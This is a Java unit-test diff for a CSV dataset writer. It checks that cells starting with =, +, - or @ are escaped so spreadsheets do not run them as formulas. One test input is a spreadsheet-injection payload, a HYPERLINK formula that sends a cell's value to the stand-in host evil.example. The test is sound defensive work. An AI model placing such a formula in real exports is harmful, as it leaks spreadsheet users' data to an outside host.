@@ -89,6 +89,30 @@ class DatasetWriterTest {
     }
 
     @Test
+    void textThatASpreadsheetWouldRunAsAFormulaIsWrittenInertAndReadsBack() throws Exception {
+        // Issue #19: the export wrote =HYPERLINK(...) raw, which Excel runs when the CSV is opened.
+        List<String> names = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+1", "-Dinas", "@SUM(A1:A9)",
+                "'=already quoted", "''+two", "'plain apostrophe", "Dinas = Kesehatan");
+        List<Agency> agencies = new ArrayList<>();
+        for (int i = 0; i < names.size(); i++) {
+            agencies.add(new Agency("F" + i, names.get(i), null, null, null));
+        }
+        agencies.add(new Agency("-MINUS", "code starting with a minus", null, null, null));
+        Dataset d = new Dataset(agencies, List.of(), List.of(), null, List.of(), Map.of(), null);
+        DatasetWriter.writeFolder(d, dir);
+        String csv = Files.readString(dir.resolve("agencies.csv"));
+        for (String line : csv.split("\n")) {
+            for (String cell : line.split(",")) {
+                String c = cell.startsWith("\"") ? cell.substring(1) : cell;
+                assertThat(c).as(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@");
+            }
+        }
+        assertThat(csv).contains("F0,\"'=HYPERLINK(").contains("F5,'''+two").contains("F6,'plain apostrophe").contains("'-MINUS,");
+        assertThat(DatasetReader.readFolder(dir)).isEqualTo(d);
+        assertThat(CsvTable.cell("-5")).as("a number stays a number").isEqualTo("-5");
+    }
+
+    @Test
     void aDatasetBuiltInCodeRoundTripsToo() throws Exception {
         List<Agency> agencies = new ArrayList<>();
         for (int i = 0; i < 5; i++) {
